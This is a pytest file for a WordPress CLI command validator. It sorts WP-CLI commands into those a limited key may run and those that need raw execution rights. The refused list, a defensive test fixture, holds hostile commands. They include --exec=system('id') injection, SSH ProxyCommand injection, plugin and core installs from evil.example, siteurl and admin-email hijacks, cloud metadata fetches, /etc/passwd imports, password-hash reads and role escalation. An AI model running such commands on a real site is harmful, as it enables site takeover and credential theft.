"""What a key with the scope `cms.cli:exec` may run, and what needs `exec:raw`."""

import pytest

from stead.control.exec.wp_cli_rules import is_restricted

ALLOWED = """
cache flush
cli version
comment list --status=hold --format=json
comment meta get 5 rating
comment approve 7 8
comment create --comment_post_ID=5 --comment_content=Hello
core version
core update-db --dry-run
core verify-checksums
cron event list
cron event run --due-now
cron event run my_hook other_hook
cron schedule list
cron test
db prefix
db tables --all-tables
option delete my_flag other_flag
help plugin install
help
language core install de_DE --activate
language core install pt_PT_ao90
maintenance-mode status
media regenerate --yes --only-missing
menu item add-custom main Home /
option get siteurl
option update blogname Hello
option update my_plugin_settings {"a":1} --format=json
option add my_flag 1
option patch update my_plugin_settings color blue
option delete my_flag
plugin list --status=active --field=name
plugin install akismet --activate
plugin update --all
plugin update akismet hello-dolly
plugin upgrade akismet
plugin deactivate --all --quiet
plugin activate woocommerce --skip-plugins --skip-themes
plugin auto-updates enable akismet
plugin verify-checksums --all
post create --post_title=Hello --post_status=publish
post update 5 --post_title=Bye
post update 5 6 7 --post_status=draft
post list --post_type=page --user=admin
post meta set 5 key value
post meta update 5 _wp_page_template wide.php
post meta patch update 5 settings color blue
post meta get 5 _wp_attached_file
post term set 5 category news
post-type list
rewrite flush
rewrite structure /%postname%/
sidebar list
taxonomy list
term create category News
theme install twentytwentyfive
theme list
theme mod set background_color ffffff
theme update --all
transient delete --all
user list --role=administrator
user list --fields=ID,login,roles --format=json --number=5 --user=admin
user get 1 --fields=user_login,user_email
widget list sidebar-1
plugin list --help
plugin list --debug --no-color
"""

REFUSED = """
--exec=phpinfo(); cli version
--prompt cache flush
--require=/tmp/x.php cli version
@all plugin list
@production cli version
Cache flush
PLUGIN list
admin
ability run x
acorn tinker
ai prompt
cache flush --path=/srv/site
cache flush --ssh=host
cache flush --ssh-args=-oProxyCommand=id
cache flush --http=example.com
cache flush --alias=prod
cache flush --context=admin
cache flush --allow-root
cache flush --url=other.example
cache flush --blog=2
cache flush --skip-packages
cache flush --no-skip-packages
cache flush --
cache flush -- --exec=x
cache flush -x
cache flush --EXEC=x
cap add editor manage_options
cli alias add @x --set-path=/
cli alias list
cli aliases
cli cache clear
cli check-update
cli cmd-dump
cli completions --line=x --point=1
cli has-command eval
cli info
cli param-dump
cli update
comment create --exec=system('id');
comment list --require=x.php
config create --dbname=x --dbuser=x
config delete DB_NAME
config edit
config get DB_PASSWORD
config list
config path
config set WP_DEBUG true --raw
config shuffle-salts
core config
core download --force
core install --url=x --title=x --admin_user=x --admin_email=x@example.com
core multisite-convert
core multisite-install
core install-network
core update
core update https://evil.example/wordpress.zip
core upgrade
core language list
checksum core
cron event run --all
cron event schedule my_hook now
db check
db clean --yes
db cli
db columns wp_users
db connect
db create
db drop --yes
db dump -
db export /srv/site/wp-content/uploads/dump.sql
db export -
db import dump.sql
db optimize
db query SELECT 1
db repair
db reset --yes
db size
dist-archive .
doctor check --all
embed fetch http://169.254.169.254/
eval echo 1;
eval-file x.php
exec echo
export --dir=/srv/site/wp-content/uploads
find /
help ../../wp-content/uploads/x
help Eval
i18n make-php x
import x.xml --authors=create
import https://evil.example/x.xml --authors=create
language core install https://evil.example/x.zip
language core install ../x
language plugin install akismet de_DE
login create admin
login as admin
maintenance-mode activate
mcp serve
media import /etc/passwd
media import http://169.254.169.254/
media replace 5 /etc/passwd
network meta set 1 x y
option add SITEURL http://evil.example
option delete siteurl
option delete my_flag siteurl wp_user_roles
option update blogname Hello siteurl
option patch update _site_transient_update_plugins response akismet/akismet.php package https://evil.example/x.zip
option update _transient_x y
transient set x y
transient patch update update_plugins x --network
cache set update_plugins x site-transient
cache get 1 users --user=admin
cache pluck 1 users user_pass --user=admin
db search x wp_users
user list --fields=user_login,user_pass
user get 1 --field=user_pass
user get 1 --field=pass
user get 1 --fields=login,pass
user get 1 --field=activation_key
user get 1 --Field=pass
user list --field=data --format=json
user list --fields=ID,user_pass --fields=ID
user list --field=_two_factor_totp_key
user list --meta_key=_two_factor_totp_key --meta_value=J --meta_compare=LIKE
user list --meta_query=x
user meta get 1 session_tokens
option patch update active_plugins 0 evil/evil.php
option patch update wp_user_roles subscriber capabilities manage_options true
option set siteurl http://evil.example
option update HOME http://evil.example
option update active_plugins []
option update admin_email me@evil.example
option update cron x
option update default_role administrator
option update home http://evil.example
option update mailserver_url x
option update new_admin_email me@evil.example
option update recently_edited x
option update siteurl http://evil.example
option update sìteurl http://evil.example
option update stylesheet evil
option update template evil
option update upload_path /etc
option update upload_url_path http://evil.example
option update users_can_register 1
option update uninstall_plugins {} --format=json
option patch insert uninstall_plugins x y
option update stylesheet_root /wp-content/uploads
option update template_root /wp-content/uploads
option update recovery_keys x
option update adminhash x
option update wp_2_user_roles x
option update wp_user_roles x
option update
option list
option list --unserialize
option get adminhash
option get _transient_doing_cron
option get Logged_In_Salt
option get
option pluck recovery_keys x
transient get x
transient list
package install x/y
package list
plugin download akismet --target-path=/tmp
plugin install ../../x
plugin install /srv/site/wp-content/uploads/x.zip
plugin install akismet --force
plugin install akismet --version=1.0
plugin install https://evil.example/x.zip
plugin scaffold x
plugin update akismet --version=1.0
plugin update akismet --insecure
plugin update-all
post create /etc/passwd
post create - --post_title=x
post edit 5
post update 5 /etc/passwd
post url 5
post-meta add 5 x y
post create --meta_input={"_wp_attached_file":"x"}
post update 5 --meta_input={"_wp_attached_file":"x"}
post update 5 --Meta_Input={}
post meta add 5 _wp_font_face_file ../x
post meta set 5 _wp_attached_file ../x
post meta update 5 _wp_attachment_metadata {} --format=json
post meta update 5 _WP_Attached_File ../x
post meta patch insert 5 _wp_attachment_metadata sizes x
post meta set 5
my-post-meta list 5
profile eval x
profile stage
rewrite flush --hard
rewrite structure /x/ --hard
role create x X
role list
scaffold plugin x
scaffold _s x
search-replace a b
search-replace admin@site.example me@evil.example wp_users --include-columns=user_email
search-replace subscriber administrator wp_options
search-replace a b --export=/tmp/x.sql
search-replace a b --log=/srv/site/wp-content/x.php
search-replace a b --log
search-replace a b --callback=system
server
server --host=0.0.0.0
shell
shell --basic
site create --slug=x
site delete 1
site empty --yes
site option update siteurl x
site list
sql query
super-admin add me
theme activate evil
theme install https://evil.example/x.zip
theme install twentyten --version=1.0
theme delete x --path=/
transient delete-expired
user add-cap 1 manage_options
user add-role 1 administrator
user application-password create 1 x
user check-password admin x
user create x x@example.com --role=administrator
user generate
user import-csv /etc/passwd
user import-csv http://evil.example/x.csv
user meta update 1 wp_capabilities x
user meta patch update 1 wp_capabilities administrator true
user reset-password admin
user session destroy 1
user set-role 1 administrator
user signup activate x
user update 1 --user_pass=x
user-meta update 1 wp_capabilities x
unknown command
woocommerce tool run x
"""


@pytest.mark.parametrize("line", ALLOWED.strip().splitlines())
def test_a_key_that_operates_the_site_may_run_it(line: str):
    assert not is_restricted(line.split())


@pytest.mark.parametrize("line", REFUSED.strip().splitlines())
def test_only_a_key_that_may_run_code_may_run_it(line: str):
    assert is_restricted(line.split())


@pytest.mark.parametrize(
    "args",
    [
        [],
        [""],
        ["", "cache", "flush"],
        ["cache flush"],
        ["cache\nflush"],
        ["option", "update", "siteurl ", "http://evil.example"],
        ["option", "update", "siteurl\n", "http://evil.example"],
        ["cache", "flush", "--exec\n=x"],
        ["cache", "flush", "--exec=\nsystem('id');"],
        ["cache", "flush", "-"],
        ["plugin", "install", "akismet\n"],
        ["post", "update", "5\n"],
    ],
)
def test_unusual_arguments_are_refused(args: list[str]):
    assert is_restricted(args)


def test_a_value_may_contain_anything():
    assert not is_restricted(["post", "create", "--post_content=<?php\n--exec=x"])
